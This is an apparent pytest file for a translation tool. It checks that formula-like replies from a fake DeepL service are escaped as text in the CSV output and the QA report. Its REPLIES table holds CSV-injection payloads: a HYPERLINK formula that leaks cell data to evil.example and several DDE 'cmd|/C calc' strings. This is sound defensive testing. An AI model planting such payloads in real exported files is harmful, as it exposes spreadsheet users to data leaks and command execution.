"""A provider's reply is never written as a spreadsheet formula (issue 15, finding 10).

A translation service can answer ``=HYPERLINK("http://evil.example/?leak="&A1,"click")``
(by mistake, or because the text asked it to). In the translated CSV and in the QA report
such a reply is written as text a spreadsheet shows, never runs; reading our own CSV back
gives the reply again; a cell the job did not change keeps its bytes, formula or not.
The replies come from a fake DeepL (the third party), through the real provider and engine.
"""

from __future__ import annotations

import csv
import io
import uuid
from collections.abc import AsyncIterator, Iterator
from pathlib import Path
from xml.sax.saxutils import escape

import pandas as pd
import pytest

from tests.providers.conftest import FAST
from tests.providers.fakes.deepl_api import FakeDeepL, serving
from tests.providers.fakes.server import Received, Reply
from workbench import inline
from workbench.batch.engine import Engine
from workbench.batch.formats import FormatOptions, format_for
from workbench.batch.jobs import JobSpec, Reading
from workbench.batch.paths import file_inputs
from workbench.batch.report import to_csv
from workbench.db import Database
from workbench.db.models import JobStatus
from workbench.formulas import FORMULA_TRIGGERS, unescape
from workbench.glossary import store as glossaries

DEEPL_KEY = "deepl-key-for-formula-replies:fx"
# Each source, and what the service answers for it: one reply per formula trigger.
REPLIES = {
    "Open the report": '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "Add a line": "+cmd|' /C calc'!A0",
    "Remove a line": "-2+3+cmd|' /C calc'!A0",
    "Mention the report": "@SUM(1+1)*cmd|' /C calc'!A0",
    "Indent the line": "\t=1+1",
    "Return the report": "\r=1+1",
}
TERMS = pd.DataFrame({"source_term": ["report", "line"], "target_term": ["rapport", "ligne"]})


class ReplyingDeepL(FakeDeepL):
    """DeepL answering each known text with its reply from :data:`REPLIES`."""

    def handle(self, request: Received) -> Reply:
        reply = super().handle(request)
        if request.path == "/v2/translate" and reply.status == 200:
            sent = request.json()["text"]
            # With tag handling, replies are XML and DeepL escapes what is not markup.
            xml = request.json().get("tag_handling") == "xml"
            for text, result in zip(sent, reply.body["translations"], strict=True):
                if text in REPLIES:
                    result["text"] = escape(REPLIES[text]) if xml else REPLIES[text]
        return reply


@pytest.fixture
def replying_deepl(monkeypatch: pytest.MonkeyPatch) -> Iterator[ReplyingDeepL]:
    with serving(ReplyingDeepL(DEEPL_KEY), monkeypatch) as fake:
        yield fake


@pytest.fixture
async def engine(db: Database, replying_deepl: ReplyingDeepL) -> AsyncIterator[Engine]:
    async with Engine(db, provider_options={"deepl": FAST}) as engine:
        yield engine


async def glossary(db: Database) -> uuid.UUID:
    async with db.session() as session:
        result = await glossaries.import_frame(
            session, TERMS, name="terms", source_lang="en", target_lang="fr"
        )
        await session.commit()
        return result.glossary.id


def rows_of(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def runs_as_formula(cell: str) -> bool:
    return cell.startswith(FORMULA_TRIGGERS)


async def test_replies_that_are_formulas_are_written_as_text(
    engine: Engine, db: Database, replying_deepl: ReplyingDeepL, tmp_path: Path
) -> None:
    source = tmp_path / "strings.csv"
    rows = [["id", "text", "note"]]
    rows += [[str(n), text, ""] for n, text in enumerate(REPLIES, start=1)]
    rows += [
        ["7", "-5", "=SUM(B1:B2)"],  # nothing to translate; a formula in a column we skip
        ["8", "'=Total", "+keep"],  # a cell someone escaped by hand, read as its text
    ]
    buffer = io.StringIO(newline="")
    csv.writer(buffer, lineterminator="\n").writerows(rows)
    source.write_text(buffer.getvalue())
    inputs = file_inputs([source], "fr", data_dir=tmp_path, reading=Reading(columns=("text",)))
    glossary_id = await glossary(db)
    job = await engine.translate_now(
        JobSpec("deepl", "FR", source_lang="en", glossary_id=glossary_id, inputs=tuple(inputs))
    )
    assert job.status is JobStatus.COMPLETED, job.error

    output = Path(job.outputs[0]["output"]).read_bytes()
    written = rows_of(output)
    translated = {row[0]: row[1] for row in written[1:]}
    for number, reply in enumerate(REPLIES.values(), start=1):
        cell = translated[str(number)]
        assert not runs_as_formula(cell), cell
        assert cell == "'" + reply
        assert unescape(cell) == reply
    # Cells the job left as they were keep their bytes, formulas included.
    assert written[7] == ["7", "-5", "=SUM(B1:B2)"]
    assert written[8][2] == "+keep"
    sent = {
        text
        for request in replying_deepl.requests("/v2/translate")
        for text in request.json()["text"]
    }
    assert "=Total" in sent  # the escape apostrophe is not part of the text
    assert "'=Total" not in sent

    # Reading our own output gives the replies back, not their escaped form.
    again = format_for(source).read(output, FormatOptions(columns=("text",)))
    assert [inline.text_of(text) for text in again.texts[:6]] == list(REPLIES.values())

    # The QA report (each reply lacks its term's target) is written as text too.
    assert job.qa_report is not None
    assert {row["translation"] for row in job.qa_report} == set(REPLIES.values())
    report = rows_of(to_csv(job.qa_report))
    assert report[0] == ["check", "where", "source", "translation", "problem"]
    shown = {row[3] for row in report[1:]}
    assert not any(runs_as_formula(cell) for row in report[1:] for cell in row)
    assert {unescape(cell) for cell in shown} == set(REPLIES.values())
